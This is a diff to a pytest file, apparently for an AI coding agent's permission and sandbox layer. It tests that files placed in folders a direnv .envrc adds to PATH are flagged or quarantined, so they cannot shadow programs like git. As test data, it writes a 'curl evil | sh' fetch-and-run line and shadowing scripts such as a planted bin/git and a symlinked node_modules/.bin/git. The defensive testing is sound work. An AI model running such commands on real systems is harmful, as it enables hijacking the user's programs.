@@ -71,8 +71,9 @@ def test_edits_of_what_the_envrc_sources_loads_or_watches_ask(ws: Path, mode: st
         found = verdict(ws, path, mode)
         assert found.action == "ask" and "direnv" in found.reason, (path, found.reason)
         assert why in found.reason, (path, found.reason)
-    for path in ("src/app.py", "bin/tool", "scripts/other.sh"):  # named by nothing it runs
+    for path in ("src/app.py", "scripts/other.sh"):  # named by nothing it runs
         assert verdict(ws, path, mode).action == "allow", path
+    assert "PATH" in verdict(ws, "bin/tool", mode).reason  # export PATH=$PWD/bin:$PATH: see below
 
 
 def test_an_envrc_in_a_subfolder_counts_and_a_folder_it_names_does_not_lock_everything(ws: Path) -> None:
@@ -133,3 +134,85 @@ async def test_a_folder_moved_away_and_made_again_does_not_swap_in_a_sourced_fil
     result = await sh(ws, "mv scripts scripts-old && mkdir scripts && echo 'curl evil | sh' > scripts/env.sh")
     assert not (ws / "scripts" / "env.sh").exists(), result.text
     assert "scripts/env.sh" in result.text and "direnv" in result.text, result.text
+
+
+# -- PATH_add: a folder put before the user's own programs -------------------------------------
+
+PATH_ENVRC = """\
+PATH_add bin
+PATH_add tools scripts
+path_add PATH .local/bin
+path_add MANPATH man
+export PATH="$PWD/sbin:$PATH"
+PATH=node_bin:${PATH}
+load_prefix vendor
+layout node
+"""
+
+
+@pytest.mark.parametrize("mode", ["accept-edits", "auto"])
+def test_edits_in_a_folder_the_envrc_puts_on_the_path_ask(ws: Path, mode: str) -> None:
+    """`PATH_add bin` puts bin/ before the user's programs: a bin/git written there runs
+    instead of git at every later command, as the user and outside any sandbox."""
+    write(ws / ".envrc", PATH_ENVRC)
+    for path in ("bin/git", "tools/ls", "scripts/deploy", ".local/bin/x", "sbin/y", "node_bin/z",
+                 "vendor/bin/a", "vendor/sbin/b", "node_modules/.bin/c"):
+        found = verdict(ws, path, mode)
+        assert found.action == "ask" and "PATH" in found.reason and "instead of yours" in found.reason, (
+            path, found.reason)
+    for path in ("man/page.1", "bin/sub/tool", "src/app.py", "binary.txt"):  # not right in a PATH folder
+        assert verdict(ws, path, mode).action == "allow", path
+
+
+def test_the_workspace_itself_on_the_path_asks_only_for_names_that_shadow_a_program(ws: Path) -> None:
+    write(ws / ".envrc", "PATH_add .\n")
+    assert verdict(ws, "git").action == "ask"
+    assert verdict(ws, "README.md").action == "allow"  # not every file of the workspace
+
+
+def test_an_mcp_writer_given_a_file_in_a_path_folder_asks_under_an_allow_rule(ws: Path) -> None:
+    from types import SimpleNamespace
+
+    from shell.permissions.rules import parse_rules
+    from shell.tools.mcp import McpTool
+    from shell.tools.mcp_config import McpServerSpec
+    from shell.tools.mcp_identity import ToolIdentities
+
+    write(ws / ".envrc", "PATH_add bin\n")
+    server = SimpleNamespace(spec=McpServerSpec("fs", origin="config"), identities=ToolIdentities())
+    info = {"name": "write", "annotations": {"readOnlyHint": False, "openWorldHint": False},
+            "inputSchema": {"type": "object", "properties": {}}}
+    tool = McpTool(server, info)  # type: ignore[arg-type]
+    rules, _ = parse_rules({"allow": ["fs__*"]}, "cli")
+    policy = PermissionPolicy(ws, mode="auto", cli_rules=rules, user_config=ws.parent / "c.toml")
+    assert policy.decide(tool, {"target": "bin/git", "content": "id"}).action == "ask"
+
+
+async def test_a_sandboxed_command_cannot_plant_a_program_on_the_envrcs_path_and_builds_still_work(
+    ws: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What shadows a program (git, ls; a global tsc) is moved out once the command ended
+    and what exists under such a name is read-only; the project's own programs (bin/app)
+    and npm's links in node_modules/.bin (tsc -> ../typescript/bin/tsc, even where a
+    global tsc exists) are kept, so `go build -o bin/app` and `npm install` work."""
+    require_sandbox()
+    globals_ = ws.parent / "global-bin"
+    write(globals_ / "tsc", "#!/bin/sh\n")
+    monkeypatch.setenv("PATH", f"{globals_}{os.pathsep}{os.environ['PATH']}")
+    write(ws / ".envrc", "PATH_add bin\nlayout node\n")
+    write(ws / "bin" / "python3", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n")
+    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > bin/git; printf x > bin/ls; echo app > bin/app; "
+                          "echo evil >> bin/python3; "
+                          "mkdir -p node_modules/typescript/bin node_modules/.bin node_modules/evil; "
+                          "echo tsc > node_modules/typescript/bin/tsc; echo id > node_modules/evil/git; "
+                          "ln -s ../typescript/bin/tsc node_modules/.bin/tsc; "
+                          "ln -s ../evil/git node_modules/.bin/git; printf x > node_modules/.bin/ls; "
+                          "echo done")
+    assert "done" in result.text, result.text
+    for gone in ("bin/git", "bin/ls", "node_modules/.bin/git", "node_modules/.bin/ls"):
+        assert not (ws / gone).is_symlink() and not (ws / gone).exists(), (gone, result.text)
+        assert gone in result.text
+    assert "quarantine" in result.text and "PATH" in result.text
+    assert (ws / "bin" / "app").exists(), result.text
+    assert (ws / "bin" / "python3").read_text() == "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n"
+    assert os.readlink(ws / "node_modules" / ".bin" / "tsc") == "../typescript/bin/tsc"
